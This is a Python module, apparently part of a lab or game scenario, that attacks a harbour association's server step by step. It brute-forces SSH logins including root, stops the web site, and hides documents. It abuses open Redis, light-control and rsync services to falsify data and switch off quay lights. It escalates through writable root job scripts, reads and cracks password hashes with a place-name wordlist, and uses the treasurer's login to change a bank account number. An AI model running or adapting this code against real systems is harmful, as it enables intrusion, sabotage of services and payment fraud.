"""Doors beside the web site: SSH accounts, open services, and what anybody with the members' password finds inside."""

import crypt
import re
from collections.abc import Iterator
from pathlib import Path
from tempfile import TemporaryDirectory

from bryggegjengen.means import SERVER, Unsure, ask, line, rsync, ssh
from bryggegjengen.members import as_member

ROOT = ("sommer", "skarvoy", "passord")
ROALD = ("Fenrik-1962",)
FALSE = '{"tid": "2099-01-01 00:00:00", "vann": 99.0, "vind": 0.0}'
WORDS = ("Brygge", "Fortoyning", "Kasse", "Skarv")
YEARS = range(1930, 2025)
ACCOUNT = "9710.55.00001"
INSIDE = "innenfor"


# Accounts


def knock_root_login() -> bool:
    return INSIDE in (ssh("root", ROOT, f"echo {INSIDE}") or "")


def use_root_login() -> str:
    ssh("root", ROOT, "echo 'Bryggegjengen var her, som root.' > /root/BRYGGEGJENGEN.txt; tjeneste stopp havn")
    return "signed in as root and stopped the web site"


def knock_old_account() -> bool:
    return INSIDE in (ssh("roald", ROALD, f"echo {INSIDE}") or "")


def use_old_account() -> str:
    hide = f"cd /srv/havn/dokumenter && mv havnereglement.txt .tatt-av-bryggegjengen && echo {INSIDE}"
    if INSIDE not in (ssh("roald", ROALD, hide) or ""):
        return "signed in as roald, who can change nothing"
    return "signed in as roald and hid the harbour rules"


# Services that are open to all


def knock_open_redis() -> bool:
    if ask("GET", "/helse").status != 200:
        raise Unsure("the web site is not well")
    return (line(6379, "GET havn:ledige") or "-").startswith("$")


def use_open_redis() -> str:
    line(6379, "SET havn:ledige 0")
    return "wrote in Redis that the guest harbour is full"


def knock_open_lights() -> bool:
    if "svarer ikke" in ask("GET", "/bryggelys").text:
        raise Unsure("the light controller does not answer")
    return line(7070, "STATUS") in ("lyser", "er av")


def use_open_lights() -> str:
    line(7070, "AV")
    return "turned the quay lights off"


def knock_anonymous_drop() -> bool:
    with TemporaryDirectory() as folder:
        return rsync("--dry-run", _false_measurement(folder), f"rsync://{SERVER}/maalinger/")


def use_anonymous_drop() -> str:
    with TemporaryDirectory() as folder:
        rsync(_false_measurement(folder), f"rsync://{SERVER}/maalinger/")
    return "delivered a measurement from the year 2099"


def _false_measurement(folder: str) -> str:
    file = Path(folder, "maaling-2099.json")
    file.write_text(FALSE)
    return str(file)


# What the members' account finds inside


def writable_jobs() -> list[str]:
    """What root runs and the members' account may change: the scripts, and what stands in the table itself."""
    jobs = "/etc/jobber.tab /opt/jobber /opt/jobber/* $(grep -o '^/[^ ]*' /etc/jobber.tab)"
    seen = as_member(f"for one in {jobs}; do if [ -w $one ] || [ -w ${{one%/*}} ]; then echo {INSIDE} $one; fi; done")
    return re.findall(rf"{INSIDE} (\S+)", seen)


def knock_writable_job() -> bool:
    return bool(writable_jobs())


def use_writable_job() -> str:
    script = next((path for path in writable_jobs() if path.endswith(".sh")), "/opt/jobber/rydd.sh")
    as_member(f"grep -q 'tjeneste stopp rsync' {script} || echo 'tjeneste stopp rsync # Bryggegjengen' >> {script}")
    return f"made root's job {script} stop rsync, again and again"


def kept_hashes() -> str:
    """Lines with password hashes that the members' account may read."""
    seen = as_member("cat /etc/shadow* /var/backups/* /var/backups/*/* 2>/dev/null")
    return "\n".join(re.findall(r"(?m)^\w+:\$.*$", seen))


def knock_readable_hashes() -> bool:
    return bool(kept_hashes())


def use_readable_hashes() -> str:
    kept = re.search(r"(?m)^kasserer:([^:]+):", kept_hashes())
    word = next((word for word in guesses() if kept and crypt.crypt(word, kept[1]) == kept[1]), None)
    if word is None:
        return "read password hashes, and cracked none"
    if ssh("kasserer", (word,), f"echo {ACCOUNT} > kontonummer.txt; echo {INSIDE}") != f"{INSIDE}\n":
        return "cracked the treasurer's old password, which opens nothing any more"
    return "cracked the treasurer's password and changed the account number"


def guesses() -> Iterator[str]:
    """Words of the place with a year behind, as people have them."""
    return (f"{word}{year}" for word in WORDS for year in YEARS)
